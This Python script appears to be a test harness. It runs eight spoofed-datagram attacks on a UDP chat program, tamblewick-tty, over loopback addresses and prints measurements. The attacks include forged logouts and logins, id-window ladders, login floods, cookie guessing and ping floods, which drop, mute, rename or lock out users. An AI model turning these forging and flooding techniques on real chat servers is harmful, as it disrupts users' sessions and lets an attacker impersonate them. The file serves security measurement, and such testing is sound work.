#!/usr/bin/env python3
"""The eight attacks of a blind forger on real tamblewick-tty programs, one figure line each.

Usage (as root, inside tools/in-private-net):  attacks.py BINARY [ATTACK...]

BINARY is tamblewick-tty; ATTACK is 1 to 8 (all when none is given). Each attack starts a
room of its own (a server on port 1210, clients on 127.0.0.K), runs for at most about a
minute and prints one line: "attack N: <figures>". The durations are scaled down from
what a patient forger would spend; each line says what it measured over.
"""

import random
import socket
import statistics
import sys
import time

import forge
import room
from forge import Forger, record

PORT_LOW, PORT_HIGH = 32768, 60999


def ephemeral_ports():
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as ports:
            low, high = (int(p) for p in ports.read().split())
            return low, high
    except (OSError, ValueError):
        return PORT_LOW, PORT_HIGH


def random_port():
    """A port of the ephemeral range, as a client's socket may have."""
    low, high = ephemeral_ports()
    return random.randint(low, high)


# --- 1: one datagram ends a session ---------------------------------------------------------

def attack_1(binary, seconds=15.0, sweep_every=3.0, rate=18800):
    """Sweeps every ephemeral port of a host with the server's goodbye, blind."""
    r, forger = room.Room(binary), Forger()
    try:
        r.serve()
        victims = [r.client(name, "127.0.0.2") for name in ("ann", "bob")]
        watcher = r.client("obs", "127.0.0.3")
        low, high = ephemeral_ports()
        goodbye = record(forge.KIND_LOGOUT, b"server", forge.random_id(), 0)
        server = ("127.0.0.2", forge.CHAT_PORT)
        end = time.monotonic() + seconds
        sweeps = 0
        while time.monotonic() < end and sweeps < 100:
            started = time.monotonic()
            forger.send_paced(((server, ("127.0.0.2", p), goodbye) for p in range(low, high + 1)),
                              rate, end)
            sweeps += 1
            time.sleep(max(0.0, min(sweep_every - (time.monotonic() - started),
                                    end - time.monotonic())))
        time.sleep(3.0)  # the last sweep's drops show within a frame or two
        drops = {v.name: watcher.count(f" -- {v.name} Logged Out") for v in victims}
        lost = {v.name: v.count(" -- Not connected: logging in again") for v in victims}
        return (f"{forger.sent} forged goodbyes in {sweeps} blind sweeps of {high - low + 1} "
                f"ports ({rate}/s) over {seconds:.0f} s: sessions dropped per client "
                + ", ".join(f"{n} {lost[n]} (room saw {drops[n]} Logged Out)" for n in drops))
    finally:
        forger.close()
        r.close()


# --- 2: one forged login deafens a client ---------------------------------------------------

def attack_2(binary, trials=5, settle=2.0, listen=4.0):
    """One login under a client's own name from its own address and port."""
    r, forger = room.Room(binary), Forger()
    deaf = 0
    notices = 0
    try:
        r.serve()
        watcher = r.client("obs", "127.0.0.3")
        for trial in range(trials):
            victim = r.client("ann", "127.0.0.2")
            watcher.wait_for(" -- ann Logged In", 5.0)
            before = len(victim.lines())
            forger.send(("127.0.0.2", victim.port()), ("127.0.0.2", forge.CHAT_PORT),
                        record(forge.KIND_LOGIN, b"ann", 0, 1))
            time.sleep(settle)  # the restart's answer and acks
            watcher.type(f"probe {trial}\n")
            if not victim.wait_for(f"<obs> probe {trial}", listen):
                deaf += 1
            notices += sum(1 for l in victim.lines()[before:] if l.startswith(" -- "))
            victim.stop()
            watcher.wait_for(" -- ann Logged Out", 5.0)
        return (f"deafened in {deaf} of {trials} trials after one forged login "
                f"({settle + listen:.0f} s each); notices the victim showed: {notices}")
    finally:
        forger.close()
        r.close()


# --- 3: the id window can be walked ---------------------------------------------------------

def ladder(forger, source, destination, rungs=131074, step=32768, between=None):
    """Reliable records of an unused kind with ids stepping `step` from a random start,
    paced by the receiver's queue so that the kernel drops no rung; `between` is called
    after every 4,096 rungs."""
    start = random.getrandbits(32)
    for first in range(0, rungs, 512):
        for i in range(first, min(first + 512, rungs)):
            forger.send(source, destination,
                        record(forge.KIND_UNUSED, b"", forge.wrap(start + i * step), 1))
        room.wait_drained(destination[0], destination[1])
        if between and first % 4096 == 0:
            between()


def attack_3(binary, runs=2, after=3):
    """A ladder at the server in the name of one client, and one at another client in the
    name of the server, while both chat; then a few lines more."""
    r, forger = room.Room(binary), Forger()
    lost, typed, muted, deafened = {"ann": 0, "bob": 0}, 0, 0, 0
    try:
        r.serve()
        watcher = r.client("obs", "127.0.0.3")
        for run in range(runs):
            ann, bob = r.client("ann", "127.0.0.2"), r.client("bob", "127.0.0.4")
            watcher.wait_for(" -- bob Logged In", 5.0)
            said = []
            def chat():
                said.append(f"{run}.{len(said)}")
                ann.type(f"ann {said[-1]}\n")
                watcher.type(f"obs {said[-1]}\n")
            ladder(forger, ("127.0.0.2", ann.port()), ("127.0.0.2", forge.CHAT_PORT), between=chat)
            ladder(forger, ("127.0.0.4", forge.CHAT_PORT), ("127.0.0.4", bob.port()), between=chat)
            during = len(said)
            for _ in range(after):
                chat()
            time.sleep(4.0)  # lines that get through do so within this
            missing_ann = [l for l in said if not watcher.count(f"<ann> ann {l}")]
            missing_bob = [l for l in said if not bob.count(f"<obs> obs {l}")]
            lost["ann"] += len(missing_ann)
            lost["bob"] += len(missing_bob)
            typed += len(said)
            muted += all(l in missing_ann for l in said[during:])
            deafened += all(l in missing_bob for l in said[during:])
            for client in (ann, bob):
                client.stop()
        return (f"{forger.sent} forged datagrams ({runs} runs, 2 ladders of 131074 stepping "
                f"32768 each): of {typed} lines typed during and after, ann's lost at the "
                f"server {lost['ann']}, the room's lost at bob {lost['bob']}; muted after "
                f"the ladder in {muted} of {runs} runs, deafened in {deafened} of {runs}")
    finally:
        forger.close()
        r.close()


# --- 4: one user silences his host ----------------------------------------------------------

def attack_4(binary, seconds=45.0, every=2.0, burst=1100, relogin=25.0):
    """A second session on the host that acknowledges all but its host's relays."""
    r = room.Room(binary)
    try:
        r.serve()
        ann = r.client("ann", "127.0.0.2")
        watcher = r.client("obs", "127.0.0.3")
        mal = r.peer("127.0.0.2")
        mal.login("mal")
        mal.pump(1.0)
        typed = {}
        start = time.monotonic()
        next_line = start
        sink = None
        for _ in range(1000):
            now = time.monotonic()
            if now - start >= seconds:
                break
            if sink is None or now - sink[1] >= relogin:
                sink = (new_sink(r), now)
                fill_backlog(mal, burst)
            if now >= next_line:
                line = f"neighbour {len(typed)}"
                ann.type(line + "\n")
                typed[line] = now
                next_line += every
            mal.pump(0.05)
            sink[0].pump(0.05)
            watcher.lines()
        watcher.wait_for("<ann> " + list(typed)[-1], 3.0)
        watcher.lines()
        late = [watcher.seen[f"<ann> {l}"] - t for l, t in typed.items()
                if f"<ann> {l}" in watcher.seen]
        median = f"{statistics.median(late):.1f} s" if late else "-"
        return (f"the neighbour's lines got through {len(late)} of {len(typed)} in "
                f"{seconds:.0f} s (median {median} late); its 'Disconnected: Session Timed "
                f"Out': {ann.count(' -- Disconnected: Session Timed Out')}")
    finally:
        r.close()


def new_sink(r):
    """mal's second session: it acknowledges everything but the relays of its host."""
    sink = r.peer("127.0.0.2", acks=lambda kind, text: not (
        kind == forge.KIND_CHAT_RELAY and forge.text_of(text[:14]) in ("ann", "mal")))
    sink.login("sink")
    sink.pump(0.5)
    return sink


def fill_backlog(mal, lines):
    """Lines from mal's first session, relayed to the sink, which leaves them waiting."""
    for i in range(lines):
        mal.chat(f"{i:04} " + "x" * 40)
        if i % 200 == 199:
            mal.pump(0.05)


# --- 5: forged logins shut a host out -------------------------------------------------------

def attack_5(binary, rate=16, before=3.0, seconds=14.0):
    """16 forged logins a second from a host's address; a real newcomer on that host, and
    a real ninth user on a host that already has eight sessions."""
    r, forger = room.Room(binary), Forger()
    try:
        r.serve()
        eight = [r.peer("127.0.0.5") for _ in range(8)]
        for number, peer in enumerate(eight):
            peer.login(f"user{number}")
        for peer in eight:
            peer.pump(0.3)
        server = ("127.0.0.4", forge.CHAT_PORT)
        logins = ((("127.0.0.4", random_port()), server,
                   record(forge.KIND_LOGIN, f"f{n}".encode(), 0, 1)) for n in range(100000))
        flood(forger, logins, rate, before, eight)
        newcomer = r.client("new", "127.0.0.4", wait=False)
        ninth = r.client("ninth", "127.0.0.5", wait=False)
        flood(forger, logins, rate, seconds, eight)
        return (f"{forger.sent} forged logins at {rate}/s: newcomer on that host "
                f"{outcome(newcomer, '127.0.0.4')}; a real ninth user on a full host "
                f"{outcome(ninth, '127.0.0.5')}")
    finally:
        forger.close()
        r.close()


def flood(forger, datagrams, rate, seconds, peers):
    """Sends at rate for seconds while the peers answer what they are sent."""
    end = time.monotonic() + seconds
    for _ in range(int(seconds / 0.1) + 1):
        if time.monotonic() >= end:
            break
        forger.send_paced(datagrams, rate, min(end, time.monotonic() + 0.1))
        for peer in peers:
            peer.pump(0.0)


def outcome(client, ip):
    lines = client.lines()
    if f" -- Login Accepted by {ip}" in lines:
        return "got in"
    said = [l.strip(" -") for l in lines[3:]]
    return "was not let in; it showed: " + ("; ".join(said) if said else "nothing")


# --- 6: a name lifts the bound --------------------------------------------------------------

def attack_6(binary, forged=200, wait=6.0):
    """Logins under a confirmed user's name from its host, from ports that user holds."""
    r = room.Room(binary)
    try:
        r.serve()
        r.client("ann", "127.0.0.6")
        mallory = [r.peer("127.0.0.6", acks=lambda kind, text: False) for _ in range(forged)]
        for peer in mallory:
            peer.login("ann")
        newcomer = r.client("bea", "127.0.0.6", wait=False)
        elsewhere = r.client("carl", "127.0.0.7", wait=False)
        deadline = time.monotonic() + wait
        for _ in range(int(wait / 0.02) + 1):
            if time.monotonic() >= deadline:
                break
            for peer in mallory:
                peer.pump(0.0)
            time.sleep(0.02)
        held = sum(1 for peer in mallory if peer.answers >= 2)
        answered = sum(1 for peer in mallory if peer.answers)
        return (f"{forged} logins as 'ann' from her host: {answered} answered, {held} held "
                f"a waiting place (their answer sent again); newcomer on that host "
                f"{outcome(newcomer, '127.0.0.6')}; newcomer on another host "
                f"{outcome(elsewhere, '127.0.0.7')}")
    finally:
        r.close()


# --- 7: a pending login can be renamed ------------------------------------------------------

def attack_7(binary, trials=8, copies=40):
    """A login under "mallory" from the victim's address and port as soon as its socket
    shows, within the login's round trip."""
    r, forger = room.Room(binary), Forger()
    renamed = 0
    accepted = 0
    try:
        r.serve()
        watcher = r.client("obs", "127.0.0.3")
        for trial in range(trials):
            victim = r.client("carol", "127.0.0.8", wait=False)
            port = first_port(victim)
            if port:
                for _ in range(copies):
                    forger.send(("127.0.0.8", port), ("127.0.0.8", forge.CHAT_PORT),
                                record(forge.KIND_LOGIN, b"mallory", 0, 1))
            accepted += victim.wait_for(" -- Login Accepted by 127.0.0.8", 5.0)
            victim.type(f"hi {trial}\n")
            room.wait_until("the line", lambda: watcher.count(f"<carol> hi {trial}") or
                            watcher.count(f"<mallory> hi {trial}"), 4.0)
            renamed += watcher.count(f"<mallory> hi {trial}")
            victim.stop()
            time.sleep(1.0)  # her logout reaches the server
        return (f"{forger.sent} forged logins in {trials} trials: victim shown "
                f"'Login Accepted' in {accepted}, the room saw her lines under 'mallory' "
                f"in {renamed} of {trials}")
    finally:
        forger.close()
        r.close()


def first_port(client, timeout=3.0):
    """The client's port as soon as its socket shows, polling without a pause."""
    deadline = time.monotonic() + timeout
    for _ in range(1000000):
        port = client.port()
        if port or time.monotonic() >= deadline:
            return port
    return None


# --- 8: guessing and draining ---------------------------------------------------------------

def attack_8(binary, guess_seconds=8.0, flood_rate=5000, watch=14.0):
    """Forged cookie guesses, and forged pings while a server restarts."""
    return f"{cookie_guesses(binary, guess_seconds)}; {restart_notice(binary, flood_rate, watch)}"


def cookie_guesses(binary, seconds):
    """Fills the waiting places, so that logins are answered by cookie, then sends acks
    with guessed ids from addresses without a session, as fast as the server takes them.
    A server that checks every ack against the cookie its address and port would have
    checks them all; one that checks only addresses it keeps a login for checks none."""
    r, forger = room.Room(binary), Forger()
    try:
        r.serve()
        server = ("127.0.0.1", forge.CHAT_PORT)
        sources = [(f"127.1.{n // 250}.{n % 250 + 1}", 40000 + n) for n in range(400)]
        for source in sources:
            forger.send(source, server, record(forge.KIND_LOGIN, b"guess", 0, 1))
        room.wait_drained(*server, below=1)
        start, taken = time.monotonic(), 0
        while time.monotonic() - start < seconds:
            for _ in range(1000):
                source = (f"127.3.{random.randint(0, 255)}.{random.randint(1, 254)}",
                          random.randint(1024, 65535))
                guess = random.getrandbits(32).to_bytes(4, "little")
                forger.send(source, server, record(forge.KIND_ACK, guess, forge.random_id(), 0, 1))
            taken += 1000
            room.wait_drained(*server, below=40000)
        room.wait_drained(*server, below=1)
        rate = taken / (time.monotonic() - start)
        return f"{rate:,.0f} forged cookie guesses taken a second ({taken} in {seconds:.0f} s)"
    finally:
        forger.close()
        r.close()


def restart_notice(binary, flood_rate, watch):
    """Seconds from a server's crash and restart to its clients noticing, with and
    without forged pings spending its "no session" answers."""
    quiet = restart_once(binary, 0, watch)
    flooded = ", ".join(restart_once(binary, flood_rate, watch) for _ in range(2))
    return (f"clients noticed a restarted server after {quiet} (quiet), and after {flooded} "
            f"under {flood_rate} forged pings/s")


def restart_once(binary, flood_rate, watch):
    r, forger = room.Room(binary), Forger()
    try:
        r.serve()
        ann = r.client("ann", "127.0.0.2")
        r.restart_server()
        start = time.monotonic()
        pings = ((((f"127.2.{n % 200}.{n // 200 % 200 + 1}", 20000 + n % 30000)),
                  ("127.0.0.1", forge.CHAT_PORT),
                  record(forge.KIND_PING, b"\0\0\0\0", forge.random_id(), 0, 1))
                 for n in range(10**6))
        gone = " -- Not connected: logging in again"
        for _ in range(int(watch / 0.05) + 1):
            if gone in ann.lines() or time.monotonic() - start >= watch:
                break
            if flood_rate:
                forger.send_paced(pings, flood_rate, time.monotonic() + 0.05)
            else:
                time.sleep(0.05)
        if gone not in ann.lines():
            return f"more than {watch:.0f} s"
        return f"{ann.seen[gone] - start:.1f} s"
    finally:
        forger.close()
        r.close()


ATTACKS = [attack_1, attack_2, attack_3, attack_4, attack_5, attack_6, attack_7, attack_8]


def main(arguments):
    if not arguments:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    binary, chosen = arguments[0], [int(a) for a in arguments[1:]] or range(1, 9)
    failed = 0
    for number in chosen:
        try:
            print(f"attack {number}: {ATTACKS[number - 1](binary)}", flush=True)
        except (RuntimeError, OSError) as error:
            print(f"attack {number}: not measured: {error}", flush=True)
            failed += 1
    return 1 if failed else 0


if __name__ == "__main__":
    socket.setdefaulttimeout(room.WAIT_S)
    sys.exit(main(sys.argv[1:]))
